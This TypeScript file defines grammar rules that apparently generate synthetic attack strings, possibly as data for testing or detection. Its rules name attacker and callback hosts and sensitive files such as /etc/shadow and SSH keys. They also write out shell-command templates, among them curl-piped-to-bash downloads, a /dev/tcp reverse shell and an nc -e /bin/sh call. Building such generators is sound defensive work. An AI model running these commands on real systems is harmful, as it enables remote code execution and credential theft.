/** Words that attack texts of every kind share: names, plausible values, hosts, commands and files. */
import {
  ALPHANUMERIC,
  characters,
  DIGITS,
  HEX_DIGITS,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  repeat,
  text,
  UPPER_CASE,
  weighted,
} from '../grammar.ts';

const LOWER_CASE_AND_DIGITS = `${LOWER_CASE}${DIGITS}`;

/** A name that a programmer gives a parameter or field. */
export const fieldName: Rule = weighted(
  [8, oneOf('id', 'q', 'name', 'search', 'user', 'username', 'email', 'page', 'file', 'url', 'title', 'comment')],
  [6, oneOf('message', 'category', 'sort', 'order', 'filter', 'lang', 'type', 'action', 'data', 'text', 'value')],
  [6, oneOf('subject', 'description', 'firstName', 'last_name', 'company', 'city', 'token', 'ref', 'key', 'mode')],
  [4, oneOf('template', 'content', 'body', 'input', 'query', 'param', 'view', 'path', 'date', 'code', 'account')],
  [3, oneOf('productId', 'cat_id', 'orderNo', 'amount', 'iban', 'customer', 'payee', 'note', 'password', 'login')],
  [
    2,
    text`${oneOf('user', 'item', 'post', 'form', 'x', 'fld', 'opt', 'my')}${oneOf('_', '', '-')}${oneOf('id', 'name', 'data', 'val', 'text')}`,
  ],
  [1, characters(LOWER_CASE, 1, 4)],
);

/** A first name or login name. */
export const personName: Rule = oneOf(
  'admin',
  'administrator',
  'root',
  'test',
  'john',
  'alice',
  'bob',
  'guest',
  'user1',
  'mmueller',
  'sarah',
  'peter.smith',
  'demo',
  'support',
  'jdoe',
  'nina',
  text`user${integer(1, 999)}`,
  text`${characters(LOWER_CASE, 3, 8)}`,
);

/** What an honest user might have typed where the attack stands. */
export const plainValue: Rule = weighted(
  [3, integer(0, 99999)],
  [2, personName],
  [2, oneOf('hello', 'foo', 'test', 'abc', 'shoes', 'Berlin', 'en', 'news', 'summer sale', 'asc', 'blue', 'home')],
  [1, text`${personName}@${oneOf('example.com', 'mail.com', 'gmail.com', 'test.org', 'company.net')}`],
  [1, characters(ALPHANUMERIC, 3, 12)],
  [1, text`${integer(2015, 2026)}-${integer(10, 12)}-${integer(10, 28)}`],
);

/** A variable name of a program. */
export const identifier: Rule = weighted(
  [3, oneOf('x', 'a', 'b', 'i', 's', 'r', 'p', 'tmp', 'res', 'out', 'data', 'val', 'cmd', 'obj', 'foo', 'test', 'pwn')],
  [2, characters(LOWER_CASE, 2, 7)],
  [1, text`${characters(LOWER_CASE, 2, 5)}${oneOf('_', '')}${integer(1, 99)}`],
  [1, text`_${characters(LOWER_CASE, 1, 6)}`],
);

/** A random token such as tools put into their probes. */
export const token: Rule = oneOf(
  characters(LOWER_CASE, 6, 12),
  characters(HEX_DIGITS, 8, 16),
  characters(ALPHANUMERIC, 6, 16),
  integer(10000, 99999999),
);

const octet = integer(1, 254);

/** An address outside private networks, dotted. */
export const publicIp: Rule = text`${oneOf('45', '5', '91', '103', '185', '194', '198', '203', '80', '37', '134')}.${octet}.${octet}.${octet}`;

/** An address inside a private network, dotted. */
export const privateIp: Rule = oneOf(
  text`10.${integer(0, 255)}.${octet}.${octet}`,
  text`192.168.${integer(0, 255)}.${octet}`,
  text`172.${integer(16, 31)}.${octet}.${octet}`,
);

/** A host for out-of-band answers, as the common services and tools name them. */
export const callbackHost: Rule = oneOf(
  text`${characters(LOWER_CASE_AND_DIGITS, 20, 33)}.${oneOf('oast.fun', 'oast.live', 'oast.site', 'oast.online', 'oast.pro', 'oast.me', 'interact.sh')}`,
  text`${characters(LOWER_CASE_AND_DIGITS, 20, 32)}.${oneOf('burpcollaborator.net', 'oastify.com')}`,
  text`${characters(LOWER_CASE_AND_DIGITS, 6)}.${oneOf('dnslog.cn', 'ceye.io', 'dnslog.link', 'eyes.sh', 'tu4.org')}`,
  text`${characters(HEX_DIGITS, 8, 16)}.${oneOf('ngrok.io', 'ngrok-free.app', 'requestbin.net', 'pipedream.net', 'requestrepo.com', 'serveo.net', 'trycloudflare.com')}`,
  text`${maybe(text`hit${token}.`, 0.8)}${oneOf('bxss.me', 'r87.me', 'xss.ht', 'canarytokens.com', 'testasp.vulnweb.com')}`,
);

/** A host that belongs to the attacker. */
export const attackerHost: Rule = weighted(
  [
    4,
    text`${maybe(oneOf('www.', 'cdn.', 'x.', 'a.', 'srv.'), 0.3)}${oneOf('evil', 'attacker', 'hacker', 'malicious', 'badguy', 'rogue', 'pwned', 'hax0r', 'evilsite', 'attack-er', 'example', 'h4x', 'mal', 'phish')}${maybe(integer(1, 99), 0.2)}.${oneOf('com', 'net', 'org', 'ru', 'xyz', 'top', 'io', 'tk', 'example', 'cn')}`,
  ],
  [3, callbackHost],
  [2, publicIp],
  [1, text`${publicIp}:${oneOf('8000', '8080', '443', '4444', '9001', '1337', '8888', '5555', '1389')}`],
  [1, text`${characters(LOWER_CASE, 4, 11)}.${oneOf('xyz', 'ru', 'info', 'top', 'biz', 'cc', 'site', 'pw', 'su')}`],
);

/** A file that attackers read to prove that they can. */
export const sensitiveFile: Rule = oneOf(
  '/etc/passwd',
  '/etc/passwd',
  '/etc/hosts',
  '/etc/shadow',
  '/proc/self/environ',
  '/etc/hostname',
  '/etc/issue',
  '/proc/version',
  '/root/.ssh/id_rsa',
  '/var/log/apache2/access.log',
  '/flag',
  '/flag.txt',
  'C:/Windows/win.ini',
  'C:\\Windows\\win.ini',
  'c:/boot.ini',
  '/var/www/html/config.php',
  text`/home/${personName}/.ssh/authorized_keys`,
  text`/tmp/${token}`,
);

const systemCommand: Rule = oneOf(
  'id',
  'whoami',
  'uname -a',
  'ls -la',
  'ls',
  'ls /',
  'dir',
  'ipconfig',
  'ifconfig',
  'pwd',
  'hostname',
  'netstat -an',
  'ps aux',
  'env',
  'calc',
  'calc.exe',
  'ver',
  'date',
  'w',
  'nproc',
);

/** A shell command as it stands inside code: never with double quotes, so that it fits into any literal. */
export const shellCommand: Rule = weighted(
  [6, systemCommand],
  [3, text`cat ${sensitiveFile}`],
  [1, text`${oneOf('type', 'more', 'head', 'tail -n 5', 'less')} ${sensitiveFile}`],
  [
    2,
    text`${oneOf('curl', 'wget', 'curl -s', 'wget -q -O-', 'curl -fsSL')} ${oneOf('http://', 'https://', '')}${attackerHost}/${token}${maybe(oneOf('.sh', '.txt', '.py'), 0.5)}${maybe(oneOf('|sh', ' | bash', '|bash'), 0.4)}`,
  ],
  [2, text`${oneOf('nslookup', 'ping -c 1', 'ping -n 3', 'host', 'dig', 'ping')} ${attackerHost}`],
  [1, text`sleep ${integer(2, 20)}`],
  [1, text`touch /tmp/${token}`],
  [1, text`echo ${token}${maybe(text` > /tmp/${token}`, 0.4)}`],
  [1, text`bash -i >& /dev/tcp/${attackerHost}/${integer(1024, 9999)} 0>&1`],
  [1, text`nc ${maybe('-e /bin/sh ', 0.6)}${attackerHost} ${integer(1024, 9999)}`],
  [1, text`${oneOf('cmd /c', 'cmd.exe /c', 'powershell -c', '/bin/sh -c', 'bash -c')} ${systemCommand}`],
  [1, text`expr ${integer(100, 99999)} + ${integer(100, 99999)}`],
);

/** A whole number of the kind that probes multiply. */
export const probeNumber: Rule = weighted(
  [3, '7'],
  [2, integer(2, 99)],
  [3, integer(100, 9999)],
  [2, integer(10000, 9999999)],
  [1, oneOf('1337', '31337', '191', '1234', '9999', '666')],
);

/** A word in capitals and digits, for serial names. */
export const capitals: Rule = characters(UPPER_CASE, 3, 9);

/** Several words of prose. */
export const prose: Rule = repeat(
  oneOf(
    'the',
    'my',
    'order',
    'great',
    'please',
    'thanks',
    'for',
    'product',
    'new',
    'and',
    'about',
    'delivery',
    'team',
    'is',
    'we',
  ),
  1,
  6,
  ' ',
);
